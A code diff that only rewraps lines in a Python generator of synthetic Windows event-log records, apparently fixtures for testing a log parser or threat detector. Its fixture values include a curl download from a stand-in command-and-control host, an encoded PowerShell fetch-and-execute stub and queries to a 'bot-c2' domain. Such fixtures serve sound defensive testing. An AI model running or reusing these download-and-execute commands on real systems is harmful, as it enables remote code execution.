@@ -144,9 +144,12 @@ def some_digests(chance: random.Random) -> str:
     )
 
 
-CAME_FROM = ["192.0.2.7", "198.51.100.9", "-", "10.1.1.9", "10.1.1.10", "172.31.0.1", "172.32.0.1", "127.0.0.1", "0.0.0.0", "224.0.0.5",
-             "10.1.1.255", "010.1.1.9", "::ffff:10.1.1.9", "fe80::1", "", "10.1.1.9\0", "ể", "\ud800", "192.0.2.7:5"]  # fmt: skip
-COMMANDS = ["cmd /c a.exe -q", "a.exe.", "x.exe-y.example", "a.dll/b.bad.example", "-e", "/enc SQBFAFgAIABoAHQAdABwADoALwAvAGEA",
+CAME_FROM = ["192.0.2.7", "198.51.100.9", "-", "10.1.1.9", "10.1.1.10", "172.31.0.1", "172.32.0.1",
+    "127.0.0.1", "0.0.0.0", "224.0.0.5",
+             "10.1.1.255", "010.1.1.9", "::ffff:10.1.1.9", "fe80::1", "", "10.1.1.9\0", "ể", "\ud800",
+             "192.0.2.7:5"]  # fmt: skip
+COMMANDS = ["cmd /c a.exe -q", "a.exe.", "x.exe-y.example", "a.dll/b.bad.example", "-e",
+    "/enc SQBFAFgAIABoAHQAdABwADoALwAvAGEA",
             "A.EXE", "http://srv", "ping 10.1.2.3", "a.ps1\u2028-e", "run -x 5"]  # fmt: skip
 
 
@@ -202,23 +205,41 @@ def some_record(chance: random.Random) -> Record:
     )
     kinds = [
         lambda: some_connection(chance, user),
-        lambda: Record(1, strings(CommandLine=ran, ParentCommandLine=chance.choice(["", "SQBFAFgAIABoAHQAdABwADoALwAvAGEA", "c.example.net"]), User=user)),
+        lambda: Record(1,
+            strings(CommandLine=ran,
+                ParentCommandLine=chance.choice(["", "SQBFAFgAIABoAHQAdABwADoALwAvAGEA", "c.example.net"]),
+                User=user)),
         lambda: Record(22, strings(QueryName=asked, QueryResults=answered, User=user)),
-        lambda: Record(22, strings(QueryName=asked, User=user, **chance.choice([{"DnsServerIpAddress": "192.0.2.53"}, {"Query": "other.example"}, {}]))),
-        lambda: Record(3008, strings(QueryName=asked, QueryResults=answered), "Microsoft-Windows-DNS-Client", "DNS-Client"),
-        lambda: connection(chance.random() < 0.5, chance.choice(["10.1.1.5", "::1", "fe80::1"]), chance.randrange(65536), User=user),
+        lambda: Record(22,
+            strings(QueryName=asked, User=user,
+                **chance.choice([{"DnsServerIpAddress": "192.0.2.53"}, {"Query": "other.example"}, {}]))),
+        lambda: Record(3008, strings(QueryName=asked, QueryResults=answered), "Microsoft-Windows-DNS-Client",
+            "DNS-Client"),
+        lambda: connection(chance.random() < 0.5, chance.choice(["10.1.1.5", "::1", "fe80::1"]),
+            chance.randrange(65536), User=user),
         lambda: filtered(chance.choice([5156, 5157, 5158]), ports),
         lambda: Record(7, [written, *process, *strings(ImageLoaded="C:\\a.dll", Hashes=digests, User=user)]),
-        lambda: Record(1, [written, *process, *strings(CommandLine="curl http://c2.bad.example/a", Hashes=digests, User=user)]),
-        lambda: Record(22, [written, *process, *strings(QueryName="bot-c2.xyz", QueryResults="::ffff:192.0.2.1;", User=user)]),
-        lambda: Record(13, [written, *process, *strings(TargetObject="HKLM\\a", Details="http://203.0.113.7/b")]),
-        lambda: Record(4624, [("SubjectUserSid", SID, bytes.fromhex("010100000000000512000000")), ("LogonId", HEX64, chance.randbytes(8)),
+        lambda: Record(1,
+            [written, *process,
+             *strings(CommandLine="curl http://c2.bad.example/a", Hashes=digests, User=user)]),
+        lambda: Record(22,
+            [written, *process,
+             *strings(QueryName="bot-c2.xyz", QueryResults="::ffff:192.0.2.1;", User=user)]),
+        lambda: Record(13,
+            [written, *process, *strings(TargetObject="HKLM\\a", Details="http://203.0.113.7/b")]),
+        lambda: Record(4624,
+            [("SubjectUserSid", SID, bytes.fromhex("010100000000000512000000")),
+             ("LogonId", HEX64, chance.randbytes(8)),
                               *strings(TargetUserName=user, IpAddress=chance.choice(CAME_FROM), IpPort=ports,
                                        WorkstationName="PC-17")], SECURITY, "Security"),
-        lambda: Record(900, [written, ("At", FILETIME, struct.pack("<Q", FIRST_TIME)), *strings(Text="see http://x.bad.example/")], "Other", "Application"),
+        lambda: Record(900,
+            [written, ("At", FILETIME, struct.pack("<Q", FIRST_TIME)),
+             *strings(Text="see http://x.bad.example/")], "Other", "Application"),
         lambda: Record(901, strings(a="1", b="http://x.bad.example/"), "Other", "Application", unnamed=True),
-        lambda: Record(902, strings(url="http://x.bad.example/"), "Other", "Other/Operational", inner="UserData"),
-        lambda: Record(903, strings(url="http://x.bad.example/", Ip="192.0.2.1"), "Other", "Other/Operational", optional=True),
+        lambda: Record(902, strings(url="http://x.bad.example/"), "Other", "Other/Operational",
+            inner="UserData"),
+        lambda: Record(903, strings(url="http://x.bad.example/", Ip="192.0.2.1"), "Other",
+            "Other/Operational", optional=True),
     ]  # fmt: skip
     return replace(
         chance.choice(kinds)(),
